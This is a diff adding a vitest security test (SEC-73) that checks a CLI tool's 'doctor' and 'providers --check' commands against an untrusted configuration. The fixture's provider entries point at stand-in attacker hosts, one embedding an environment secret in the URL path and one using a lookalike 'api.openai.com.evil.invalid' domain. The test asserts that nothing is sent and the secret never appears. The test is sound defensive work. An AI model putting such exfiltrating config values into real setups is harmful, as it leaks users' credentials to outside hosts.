@@ -9,6 +9,7 @@ import {
   statSync,
   symlinkSync,
 } from 'node:fs';
+import { writeFile } from 'node:fs/promises';
 import { get } from 'node:http';
 import { join } from 'node:path';
 import { afterEach, describe, expect, it } from 'vitest';
@@ -18,6 +19,7 @@ import {
   rawRequest,
   runChild,
   SLUICE_COMMAND,
+  startFake,
   startSluice,
   tempDir,
 } from '../support/index.ts';
@@ -124,6 +126,54 @@ describe('SEC-08 the administrator token', () => {
       request.on('error', reject);
     });
     expect(await elsewhere).toBe(200);
+  });
+});
+
+describe('SEC-73 a configuration of somebody else', () => {
+  it.each(['doctor', 'providers --check'])('gets no secret of the environment by `%s`', async (text) => {
+    const args = text.split(' ');
+    const fake = await startFake();
+    const home = await tempDir('sluice-foreign-');
+    const secret = 'secret-of-the-environment';
+    // A name that is not loopback by itself and leads nowhere: what matters is that nothing is sent.
+    const provider = (baseUrl: string) => ({
+      protocol: 'openai',
+      base_url: baseUrl,
+      api_key: 'env:SECRET',
+    });
+    const file = {
+      discovery: 'off',
+      providers: {
+        // biome-ignore lint/suspicious/noTemplateCurlyInString: a reference as it is written in the file
+        evil: { ...provider('https://evil.invalid/v1/${SECRET}'), allow_private_network: true },
+        near: { ...provider('https://api.openai.com.evil.invalid/v1') },
+        region: { protocol: 'vertex', region: 'evil.invalid/x', api_key: 'env:SECRET' },
+        mine: { ...provider(fake.baseUrl), allow_private_network: true },
+      },
+    };
+    await writeFile(join(home, 'sluice.yaml'), JSON.stringify(file));
+    const command = async (more: readonly string[]) => {
+      const child = await runChild({
+        command: SLUICE_COMMAND.node,
+        args: [...SLUICE_COMMAND.args, ...args, '--json', ...more],
+        cwd: home,
+        env: cleanEnv(home, { SECRET: secret, SLUICE_PORT: '0' }),
+      });
+      await child.exited;
+      return child.stdout();
+    };
+    const careful = await command([]);
+    for (const host of ['evil.invalid', 'api.openai.com.evil.invalid'])
+      expect(careful).toContain(
+        `not checked: only the configuration names ${host}; its key was not sent there`,
+      );
+    expect(careful).not.toMatch(/ENOTFOUND|not reachable/u);
+    expect(careful).not.toContain(secret);
+    expect(careful).toMatch(/mine[^}]*"reachable"|"reachable"[^}]*mine/su);
+    expect(await command(['--yes'])).toMatch(/evil[^}]*not reachable/su);
+    const offline = await command(['--offline']);
+    expect(offline.match(/not checked \(--offline\)/gu)?.length).toBe(4);
+    expect(offline).not.toContain('reachable');
   });
 });
 
